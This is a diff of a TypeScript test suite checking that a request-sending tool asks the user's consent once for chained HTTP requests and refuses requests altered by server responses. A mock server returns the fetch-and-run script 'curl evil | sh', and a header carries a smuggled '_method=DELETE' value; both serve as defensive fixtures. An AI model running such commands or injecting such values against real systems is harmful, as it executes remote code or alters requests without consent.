@@ -30,7 +30,10 @@ async function withPlatform(
     request.on('data', part => parts.push(part));
     request.on('end', () => {
       received.push(`${request.method} ${request.url} ${Buffer.concat(parts)}`);
-      response.end('#!/bin/sh\ncurl evil | sh\n');
+      const isChained = request.url === '/openapi/nf-e';
+      if (isChained)
+        response.setHeader('X-More', '1&_method=DELETE').setHeader('Content-Type', 'application/json');
+      response.end(isChained ? '{"n":7}' : '#!/bin/sh\ncurl evil | sh\n');
     });
   });
   await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
@@ -108,6 +111,114 @@ describe('A17 the consent to send_request', () => {
         assert.deepEqual(received, []);
       }));
   }
+
+  describe('with requests that are needed first', () => {
+    const chain = (first: string, last = ''): Readonly<Record<string, string>> => ({
+      'x.fiscal': `### Create
+# @name create
+${first}
+
+### Cancel
+# @name cancel
+POST /openapi/nf-e/x-{{create.response.status}}
+X-Kind: {{create.response.headers.content-type}}
+
+{"id":"{{$guid}}","n":"{{create.response.body.$.n}}"}
+${last}`,
+    });
+    const sendLast = async (
+      { cwd, asked }: Pick<Tried, 'cwd' | 'asked'>,
+      respond: (count: number) => typeof AGREED | typeof DECLINED,
+    ) => {
+      const env = { FISCAL_APP_SECRET_HOM: SECRET };
+      const client = await connect(serve({ cwd, env }), {}, message => respond(asked.push(message)));
+      try {
+        return await call(client, 'send_request', { file: 'x.fiscal', name: 'cancel', environment: 'hom' });
+      } finally {
+        await client.close();
+      }
+    };
+
+    it('shows all of them in order in one question, and then sends each once', () =>
+      withPlatform(chain('POST /openapi/nf-e\n\n{"id":"{{$guid}}"}'), async tried => {
+        const { isError, text, data } = await sendLast(tried, () => AGREED);
+        assert.ok(!isError, text);
+        const [question = '', ...others] = tried.asked;
+        assert.deepEqual(others, []);
+        assert.match(
+          question,
+          /1\. POST \/openapi\/nf-e\n[\s\S]*2\. POST \/openapi\/nf-e\/x-\(create\.response\.status\.\)\n/,
+        );
+        assert.match(question, /X-Kind: \(create\.response\.headers\.content-type\)/);
+        const ids = [...question.matchAll(/"id":"([^"]+)"/g)].map(([, id]) => id);
+        assert.equal(new Set(ids).size, 2);
+        assert.deepEqual(tried.received, [
+          `POST /openapi/nf-e {"id":"${ids[0]}"}`,
+          `POST /openapi/nf-e/x-200 {"id":"${ids[1]}","n":"7"}`,
+        ]);
+        const { sent, needed } = data as { sent: boolean; needed: { name: string; neededBy: string[] }[] };
+        assert.deepEqual(
+          [sent, needed.map(({ name, neededBy }) => [name, neededBy])],
+          [true, [['create', ['cancel']]]],
+        );
+      }));
+
+    it('sends none of them if the user declines', () =>
+      withPlatform(chain('GET /openapi/nf-e'), async tried => {
+        assert.ok((await sendLast(tried, () => DECLINED)).isError);
+        assert.deepEqual([tried.asked.length, tried.received], [1, []]);
+      }));
+
+    it('ends with one that fails, and says what was sent', () =>
+      withPlatform(chain('GET /openapi/nf-e\n\n?? status == 418'), async tried => {
+        const { isError, data } = await sendLast(tried, () => AGREED);
+        const { sent, needed, problem } = data as {
+          sent: boolean;
+          needed: { sent: boolean; passed: boolean }[];
+          problem: { code: string; message: string };
+        };
+        assert.ok(!isError);
+        assert.deepEqual([sent, needed[0]?.sent, needed[0]?.passed], [false, true, false]);
+        assert.deepEqual(
+          [problem.code, problem.message],
+          ['need-failed', 'Not sent, because create failed.'],
+        );
+        assert.equal(tried.received.length, 1);
+      }));
+
+    it('isn’t for what a response changes besides its values', () =>
+      withPlatform(
+        {
+          'x.fiscal':
+            '# @name create\nGET /openapi/nf-e\n\n>> body.json\n###\n# @name cancel\n# @ref create\nPOST /openapi/nf-e\n\n< body-1.json\n',
+          'body.json': '{}',
+          'body-1.json': '{}',
+        },
+        async tried => {
+          const { writeFileSync } = await import('node:fs');
+          let count = 0;
+          const respond = () => {
+            count += 1;
+            if (count === 1) writeFileSync(join(tried.cwd, 'body-1.json'), '{"other":1}');
+            return count === 1 ? AGREED : DECLINED;
+          };
+          assert.ok((await sendLast(tried, respond)).isError);
+          assert.deepEqual([tried.asked.length, tried.received], [2, []]);
+        },
+      ));
+
+    it('sends no request whose method a response replaces', () =>
+      withPlatform(
+        {
+          'x.fiscal':
+            '# @name create\nGET /openapi/nf-e\n\n###\n# @name cancel\nGET /openapi/nf-e?a={{create.response.headers.x-more}}\n',
+        },
+        async tried => {
+          const { data } = await sendLast(tried, () => AGREED);
+          assert.deepEqual([(data as { sent: boolean }).sent, tried.received.length], [false, 1]);
+        },
+      ));
+  });
 
   it('is asked for once, and what is sent is what was shown, also with values that are new each time', () =>
     withPlatform(
